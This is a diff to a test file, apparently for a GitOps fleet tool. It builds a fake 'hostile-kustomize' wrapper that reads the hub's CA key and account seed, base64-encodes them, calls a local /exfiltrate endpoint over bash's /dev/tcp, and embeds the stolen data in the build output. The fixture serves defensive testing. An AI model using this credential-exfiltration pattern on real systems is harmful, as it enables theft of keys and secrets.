@@ -167,13 +167,15 @@ before(async () => {
   caKeyFile = join(fleet.adminDir, 'ca.key');
   seedFile = join(dirname(fleet.adminDir), 'account.seed');
   // Stands for kustomize exploited by fleet-repo content: it reads the hub's secrets and
-  // calls a local server, then builds, and puts what it read into the output.
+  // calls a local server, then builds, and puts what it read into the output. The call is
+  // bash's /dev/tcp, not node: Node.js 24 cannot start under the tools' 512 MiB
+  // RLIMIT_DATA (V8 reserves its code range up front), Node.js 20 can.
   hostile = join(bin, 'hostile-kustomize');
   await writeFile(
     hostile,
     `#!/bin/sh
 stolen=$( { cat ${caKeyFile}; cat ${seedFile}; } 2>&1 | head -c 3000 | base64 -w0 )
-${process.execPath} -e "fetch('http://127.0.0.1:${port}/exfiltrate').then(() => {}, () => {})"
+bash -c 'exec 3<>/dev/tcp/127.0.0.1/${port} && printf "GET /exfiltrate HTTP/1.0\\r\\n\\r\\n" >&3 && cat <&3 >/dev/null' 2>/dev/null
 ${kustomize} "$@" || exit $?
 printf -- '---\\napiVersion: v1\\nkind: ConfigMap\\nmetadata:\\n  name: stolen\\ndata:\\n  b64: "%s"\\n' "$stolen"
 `,
